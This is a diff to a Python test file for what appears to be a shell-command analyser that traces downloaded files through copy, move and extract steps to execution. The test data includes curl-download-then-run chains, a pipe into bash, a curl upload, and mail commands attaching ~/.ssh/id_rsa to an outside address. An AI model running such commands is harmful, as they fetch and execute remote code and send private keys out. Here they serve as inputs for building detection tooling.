@@ -216,6 +216,17 @@ def test_a_file_staged_in_the_command_carries_what_it_was_made_from() -> None:
     assert analyse_command(f"curl -T /tmp/a.tgz {URL}").payloads == ("/tmp/a.tgz",)
 
 
+def test_what_runs_carries_what_it_was_made_from() -> None:
+    # a download copied, moved or extracted before it runs: the URL runs, transitively
+    url = "https://get.example.dev/t.tgz"
+    for command in (f"curl -so /tmp/a {url} && cp /tmp/a /tmp/b && chmod +x /tmp/b && /tmp/b",
+                    f"curl -so /tmp/a {url}; mv /tmp/a ./inst.sh; cat inst.sh | bash",
+                    f"curl -so /tmp/a.tgz {url} && tar xzf /tmp/a.tgz -C /tmp/t && /tmp/t/bin/run.sh"):
+        assert url in analyse_command(command).executes, command
+    # a script of one's own copied and run carries no URL
+    assert analyse_command("cp scripts/run.sh /tmp/r.sh && bash /tmp/r.sh").executes == ("/tmp/r.sh",)
+
+
 def test_mail_attachments_and_smb_transfers() -> None:
     for command in ("mail -s x -A ~/.ssh/id_rsa ops@b.example < /dev/null", "mail --attach=$HOME/.ssh/id_rsa ops@b.example",
                     "mutt -s hi -a ~/.ssh/id_rsa -- ops@b.example"):
